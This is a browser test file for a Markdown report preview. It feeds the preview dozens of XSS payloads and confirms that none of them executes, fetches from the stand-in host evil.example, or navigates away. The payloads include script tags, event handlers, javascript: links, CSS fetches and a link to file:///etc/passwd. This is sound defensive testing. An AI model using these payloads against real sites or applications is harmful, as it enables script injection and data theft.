/**
 * A hostile report in the preview, in a real browser: nothing in it runs, nothing is asked for, nothing leaves. The page is
 * tried twice: with what the language server makes of such a report, and with HTML that no server of ours would send.
 */
import assert from 'node:assert/strict';
import { openPreviewPage } from './preview-page.mjs';

const evil = 'https://evil.example';

/** Each would set `window.caught`, show a dialog, ask for something at `evil`, or go there. */
const markdown = [
  '<script>caught = 1; alert(1)</script>',
  'a <script src="https://evil.example/x.js"></script> b',
  '<img src="https://evil.example/pixel.png" onerror="caught = 2">',
  'a <img src=x onerror=caught=3> b',
  '<svg onload="caught = 4"><script>caught = 5</script><image href="https://evil.example/i.svg"/></svg>',
  '<svg><animate onbegin=caught=6 attributeName=x dur=1s></svg>',
  '<iframe src="https://evil.example/" srcdoc="<script>top.caught = 7</script>"></iframe>',
  '<form id="attributes" action="https://evil.example"><input name="childNodes"><button autofocus>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="preconnect" href="https://evil.example">',
  '<style>@import "https://evil.example/i.css"; body { background: url(https://evil.example/b.png) }</style>',
  '<style>input[value^="a"] { background: url(https://evil.example/a) } #report { display: none }</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/s.png)">over all</div>',
  '<object data="data:text/html,<script>alert(8)</script>"></object><embed src="https://evil.example/e.swf">',
  '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video><audio src="https://evil.example/a.mp3">',
  '<math><mtext></p><style><!--</style><img src onerror=caught=9>',
  '<div onmouseover="caught = 10" onfocus="caught = 11" tabindex="0" autofocus id="report" name="body">x</div>',
  '<!--><script>caught = 12</script>-->',
  '<!-- --!><script>caught = 13</script>',
  '<![CDATA[<script>caught = 14</script>]]>',
  '</article></main></body><script>caught = 15</script>',
  '</div></div><template><script>caught = 16</script></template>',
  '[a](javascript:caught=17) [b](JaVaScRiPt:caught=18) [c](javascript&#58;caught=19) [d](&#106;avascript:caught=20)',
  '[e](<java\tscript:caught=21>) [f](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [g](vbscript:msgbox)',
  '[h](file:///etc/passwd) [i](//evil.example) [j](command:workbench.action.terminal.new) [k](vscode://file/etc/passwd)',
  '[l](https://example.org/"onmouseover="caught=22)',
  '<javascript:caught=23>',
  '![x](javascript:caught=24) ![x](https://evil.example/pixel.png) ![x"onerror="caught=25](y)',
  '&lt;script&gt;caught = 26&lt;/script&gt; &#60;script&#62;caught = 27&#60;/script&#62;',
  '`<script>caught = 28</script>`',
  '```html\n</code></pre><script>caught = 29</script>\n```',
  '# <img src=x onerror=caught=30>',
  '# __proto__\n\n# constructor\n\n# getElementById\n\n# report\n\n# sheet\n\n# status',
  '# "><script>caught = 31</script>',
  '| <script>caught = 32</script> |\n| --- |\n| <img src=x onerror=caught=33> |',
  'a[^"><script>]\n\n[^"><script>]: <script>caught = 34</script>',
  'b[^report] c[^constructor]\n\n[^report]: <img src=x onerror=caught=35>\n\n[^constructor]: x',
  '::contents[<script>caught = 36</script>]',
  '::participants{onclick="caught = 37" style="background:url(https://evil.example/d)"}',
  'The <b onclick=caught=38>General</b> <a href="javascript:caught=39" onclick="caught=40">Accounting</a> Office.',
  'Ms. "><img src=x onerror=caught=41> of <script>caught = 42</script> spoke.',
];

const attack = `"'><script>caught = 50</script><img src=x onerror=caught=51>`;
const quoted = JSON.stringify(attack);
const frontMatter = [
  `title: ${quoted}`,
  'profile: PROFILE',
  `symbol: ${quoted}`,
  `organ: ${quoted}`,
  `organizer: ${quoted}`,
  `meeting: { name: ${quoted}, start: 2007-11-26, city: ${quoted}, country: ${quoted}, session: ${quoted} }`,
  `participants: [{ name: ${quoted}, honorific: ${quoted}, role: ${quoted}, organization: ${quoted} }]`,
  `documents: [{ symbol: ${quoted}, title: ${quoted} }]`,
].join('\n');

describe('A hostile report in the preview', () => {
  for (const profile of ['un-desa', 'un-masthead', 'generic']) {
    it(`is shown as text at most (${profile})`, async () => {
      const head = `---\n${frontMatter.replace('PROFILE', profile)}\n---\n\n`;
      const preview = await openPreviewPage({
        path: 'samples/draft-with-errors/hostile.report.md',
        text: `${head}${markdown.join('\n\n')}\n\n::participants\n\n::documents\n\nTHE END\n`,
      });
      try {
        const { page } = preview;
        await page.getByText('THE END').waitFor();
        assert.ok((await page.locator('#report').innerText()).includes('<script>caught = 1; alert(1)</script>'));
        await provoke(page);
        await assertNothingHappened(preview);
        // Nothing was even refused: there was nothing in it that could have been tried.
        assert.deepEqual(await page.evaluate(() => window.violations), []);
        assert.deepEqual(await foreignElements(page), []);
        // An edit in such a block takes the other way through the page.
        await preview.replace('caught = 1;', 'caught = 1; more();');
        await preview.replace('<svg onload', 'x <svg onload');
        await provoke(page);
        await assertNothingHappened(preview);
        assert.deepEqual(await page.evaluate(() => window.violations), []);
      } finally {
        await preview.close();
      }
    });
  }

  it('has findings that are shown as text', async () => {
    const preview = await openPreviewPage({
      path: 'samples/draft-with-errors/hostile.report.md',
      text: `---\ntitle: ${quoted}\nprofil: ${quoted}\nlanguage: ${quoted}\nmeeting: { name: A, start: ${quoted} }\n---\n\n# A\n\nThe the <img src=x onerror=caught=60> meeting.\n\n::${'x'.repeat(30)}[<img src=x onerror=caught=61>]\n`,
    });
    try {
      const marks = preview.page.locator('.mark');
      const count = await marks.count();
      assert.ok(count >= 3, String(count));
      for (let index = 0; index < count; index++) {
        await marks.nth(index).click();
        await preview.page.locator('.finding .what').waitFor();
        await preview.page.keyboard.press('Escape');
      }
      await assertNothingHappened(preview);
    } finally {
      await preview.close();
    }
  });

  it('could do nothing if the server were deceived: the page itself refuses what would run or be fetched', async () => {
    const preview = await openPreviewPage({
      path: 'samples/draft-with-errors/hostile.report.md',
      text: '# A\n\nText.\n',
    });
    try {
      const raw = [
        '<div onclick="caught = 70"><img src="https://evil.example/pixel.png" onerror="caught = 71"></div>',
        '<div><svg onload="caught = 72"><script>caught = 73</script></svg></div>',
        '<div><script>caught = 74</script><script src="https://evil.example/x.js"></script></div>',
        '<div><iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>top.caught = 75</script>"></iframe></div>',
        '<div><object data="https://evil.example/o"></object><embed src="https://evil.example/e"></div>',
        '<div><link rel="stylesheet" href="https://evil.example/x.css"><style>#report { background: url(https://evil.example/b) }</style></div>',
        '<div style="background: url(https://evil.example/s)">styled</div>',
        '<div><base href="https://evil.example/"><a id="relative" href="x">relative</a></div>',
        '<div><video src="https://evil.example/v.mp4" autoplay></video></div>',
        '<div><form action="https://evil.example/f"><button id="submit">go</button></form></div>',
        '<div><a id="run" href="javascript:caught=76">run</a></div>',
      ];
      const blocks = raw.map((html, index) => ({ html, line: index, lines: 1, marks: [] }));
      const result = { ...preview.results[0], id: 'forged', pieces: blocks };
      delete result.base;
      const seen = preview.received.length;
      await preview.send({ type: 'update', result });
      await preview.until(({ type, id }) => type === 'shown' && id === 'forged', seen);
      const { page } = preview;
      assert.equal(await page.locator('#submit, #run').count(), 2);
      assert.ok(!(await page.locator('#relative').evaluate((link) => link.href)).startsWith(evil));
      await provoke(page);
      await assertNothingHappened({
        ...preview,
        requests: preview.requests.filter((url) => !preview.refused.includes(url)),
      });
      assert.ok((await page.evaluate(() => window.violations)).length > 5);
    } finally {
      await preview.close();
    }
  });
});

/** Does what a person may do by accident: points at everything, focuses everything, and clicks what is no link to the web. */
async function provoke(page) {
  await page.evaluate(() => {
    for (const element of document.querySelectorAll('#report *')) {
      for (const type of [
        'mouseover',
        'mouseenter',
        'focus',
        'pointerdown',
        'animationstart',
        'load',
        'error',
        'toggle',
      ]) {
        element.dispatchEvent(new Event(type, { bubbles: true }));
      }
      const link = element.closest('a');
      // A link to another page is left alone: VS Code opens it in a browser, when the person agrees.
      if (link?.id !== 'relative' && !/^(?:https?|mailto):/i.test(link?.getAttribute('href') ?? '')) element.click?.();
    }
  });
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
  // Whatever was begun is over before the next answer of the page’s own server.
  await page.waitForLoadState('networkidle');
}

async function assertNothingHappened({ page, requests, origin }) {
  assert.equal(await page.evaluate(() => window.caught), undefined);
  const asked = requests.filter((url) => !/^(?:page|preview\.(?:js|css))$/.test(url.replace(`${origin}/`, '')));
  assert.deepEqual(asked, [], evil);
  assert.equal(page.url().split('#')[0], `${origin}/page`);
  assert.equal(page.context().pages().length, 1);
  for (const frame of page.frames().slice(1)) assert.match(frame.url(), /^(?:about:|chrome-error:|$)/);
  assert.ok(await page.locator('main#sheet > #report > article').isVisible());
}

/** Elements, attributes, ids and targets of links in the report that a publication never has. */
async function foreignElements(page) {
  return await page.locator('#report').evaluate((report) => {
    const elements = new Set(
      'article header main nav section div span p h1 h2 h3 h4 h5 h6 ol ul li dl dt dd table thead tbody tr th td blockquote pre code em strong sup a br hr'.split(
        ' ',
      ),
    );
    const attributes =
      /^(?:id|class|lang|href|role|title|start|value|scope|tabindex|aria-(?:label|labelledby|level)|data-(?:line|head|foot))$/;
    const found = [];
    for (const element of report.querySelectorAll('*')) {
      if (!elements.has(element.localName)) found.push(element.localName);
      for (const { name, value } of element.attributes) {
        if (!attributes.test(name)) found.push(`${element.localName} ${name}`);
        if (name === 'id' && !/^(?:section|note)-/.test(value)) found.push(`id ${value}`);
        if (name === 'href' && !/^(?:#(?:section|note)-|https?:\/\/|mailto:)/i.test(value)) found.push(`href ${value}`);
      }
    }
    return found;
  });
}
